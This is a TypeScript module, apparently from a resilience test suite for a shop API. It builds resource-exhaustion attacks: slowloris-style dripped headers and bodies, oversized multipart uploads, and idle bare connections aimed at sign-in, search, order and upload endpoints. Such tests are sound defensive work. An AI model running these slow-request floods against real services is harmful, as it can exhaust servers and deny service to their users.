import type { ShopFacts } from '../shop/shop-facts'
import type { Attack } from './attack'
import { inTurns } from './in-turns'
import { withBody, writeHead } from './write-request'

/** The contract's largest JSON body, the largest that an order may have, and how much of it is dripped in. */
const JSON_BYTES = 1_048_576
const ORDER_BYTES = 262_144
const DRIPPED_BYTES = 4_096
const PHOTO_BYTES = 3 * 1024 * 1024
const BOUNDARY = 'attack'

/**
 * Attacks that hold memory or connections.
 *
 * @throws Error when the attacker has no account
 */
export function bodyAttacks({ attackers }: ShopFacts): Attack[] {
  const [uploader] = attackers
  if (!uploader) throw new Error('The attacker has no account.')
  const path = `/api/product/create/${uploader.userId}`
  const type = { 'Content-Type': `multipart/form-data; boundary=${BOUNDARY}` }
  const form = writeForm()
  const authorization = { Authorization: `Bearer ${uploader.token}` }
  const uploads = inTurns([
    withBody('POST', path, form, type),
    withBody('POST', path, form, { ...type, ...authorization }),
  ])
  const json = { 'Content-Type': 'application/json' }
  return [
    { name: 'uploads', manner: { kind: 'ask', next: uploads } },
    dripped('dripped sign-ins', '/api/auth/signin', json, JSON_BYTES),
    dripped('dripped filters', '/api/product/by/search', json, JSON_BYTES),
    dripped(
      'dripped orders',
      `/api/order/create/${uploader.userId}`,
      { ...json, ...authorization },
      ORDER_BYTES,
    ),
    dripped('dripped uploads', path, { ...type, ...authorization }, PHOTO_BYTES),
    {
      name: 'dripped heads',
      manner: {
        kind: 'drip',
        beginning: Buffer.from('GET /api/category/list HTTP/1.1\r\nHost: shop.example\r\nX-Long: '),
        rest: Buffer.alloc(DRIPPED_BYTES, 'x'),
      },
    },
    {
      name: 'bare connections',
      manner: { kind: 'drip', beginning: Buffer.alloc(0), rest: Buffer.alloc(0) },
    },
  ]
}

function dripped(
  name: string,
  path: string,
  headers: Readonly<Record<string, string>>,
  bytes: number,
): Attack {
  const head = writeHead('POST', path, { ...headers, 'Content-Length': String(bytes) })
  const beginning = Buffer.concat([
    Buffer.from(`${head}{"name":"`),
    Buffer.alloc(bytes - DRIPPED_BYTES, 'x'),
  ])
  return { name, manner: { kind: 'drip', beginning, rest: Buffer.alloc(DRIPPED_BYTES, 'x') } }
}

function writeForm(): Buffer {
  return Buffer.concat([
    Buffer.from(
      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n`,
    ),
    Buffer.alloc(PHOTO_BYTES, 'x'),
    Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
  ])
}
